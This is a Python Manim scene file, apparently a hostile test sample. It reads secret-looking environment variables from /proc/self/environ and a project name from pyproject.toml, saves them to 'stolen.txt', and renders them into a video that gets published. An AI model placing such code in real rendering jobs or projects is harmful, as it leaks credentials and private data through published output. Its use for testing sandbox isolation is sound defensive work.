from manim import *


class Hostile(Scene):
    def construct(self):
        # Whatever secret it can read, drawn into the video (which gets published) and kept in
        # its work folder. WANTED and CHECKOUT are filled in by the test.
        found = []
        try:
            raw = np.fromfile("/proc/self/environ", dtype=np.uint8, count=1_000_000)
            for entry in raw.tobytes().decode(errors="replace").split("\x00"):
                if any(word in entry for word in WANTED):
                    found.append(entry)
        except Exception:
            pass
        try:
            for line in np.genfromtxt("CHECKOUT/pyproject.toml", dtype=str, delimiter="\n", comments=None):
                if line.startswith("name ="):
                    found.append(line)
        except Exception:
            pass
        np.savetxt("stolen.txt", np.array(found, dtype=str), fmt="%s")
        if found:
            self.add(Text("\n".join(found)[:300], font_size=16))
        self.wait(1)
